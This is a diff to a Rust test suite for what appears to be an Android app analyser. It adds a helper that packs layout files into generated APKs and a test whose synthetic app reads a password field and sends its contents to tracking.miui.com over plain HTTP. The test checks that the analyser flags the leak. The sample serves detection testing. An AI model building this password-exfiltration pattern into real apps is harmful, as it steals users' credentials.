@@ -38,6 +38,11 @@ fn report(path: &Path) -> Report {
 
 /// An app with a receiver for the end of booting, which does this. Registers: 0 to 5 are free, 7 is the context.
 fn app(started: bool, on_receive: impl FnOnce(&mut Asm)) -> Report {
+    packed(started, None, on_receive)
+}
+
+/// As [`app`], with a layout.
+fn packed(started: bool, layout: Option<Vec<u8>>, on_receive: impl FnOnce(&mut Asm)) -> Report {
     let mut dex = DexBuilder::new();
     dex.class("Lcom/acme/x/R;").superclass(RECEIVER).virtual_method(
         "onReceive",
@@ -67,10 +72,12 @@ fn app(started: bool, on_receive: impl FnOnce(&mut Asm)) -> Report {
             .close();
     }
     let mut zip = zip::ZipWriter::new(Cursor::new(Vec::new()));
-    for (name, bytes) in [
+    let layout = layout.map(|layout| ("res/layout/a.xml", layout));
+    let files = [
         ("AndroidManifest.xml", manifest.build()),
         ("classes.dex", dex.build()),
-    ] {
+    ];
+    for (name, bytes) in files.into_iter().chain(layout) {
         zip.start_file(name, zip::write::SimpleFileOptions::default())
             .unwrap();
         zip.write_all(&bytes).unwrap();
@@ -236,4 +243,46 @@ fn the_sample_sends_the_imei_from_boot_on() {
             .iter()
             .any(|f| f.name == "evidence: flows to a known server")
     );
+}
+
+#[test]
+fn a_password_that_is_typed_and_sent_is_told() {
+    let layout = |kind: u32| {
+        XmlBuilder::new()
+            .open("LinearLayout", &[])
+            .empty(
+                "EditText",
+                &[
+                    ("android:id", res::Val::Ref(0x7f02_0001)),
+                    ("android:inputType", res::Val::Int(kind)),
+                ],
+            )
+            .close()
+            .build()
+    };
+    let report = |kind: u32| {
+        packed(true, Some(layout(kind)), |m| {
+            let view = "Landroid/widget/EditText;";
+            m.const_int(0, 0x7f02_0001)
+                .invoke_virtual(
+                    "Landroid/app/Dialog;",
+                    "findViewById",
+                    "(I)Landroid/view/View;",
+                    &[3, 0],
+                )
+                .move_result_object(0)
+                .check_cast(0, view)
+                .invoke_virtual(view, "getText", "()Landroid/text/Editable;", &[0])
+                .move_result_object(0)
+                .invoke_virtual("Ljava/lang/Object;", "toString", "()Ljava/lang/String;", &[0])
+                .move_result_object(0);
+            send(m, "http://tracking.miui.com/x?p=", 0);
+        })
+    };
+    // TYPE_CLASS_TEXT, with and without TYPE_TEXT_VARIATION_PASSWORD
+    assert_eq!(
+        titles(&report(0x81)),
+        ["sends the password that is typed to tracking.miui.com in clear text"]
+    );
+    assert_eq!(titles(&report(0x01)), Vec::<&str>::new());
 }
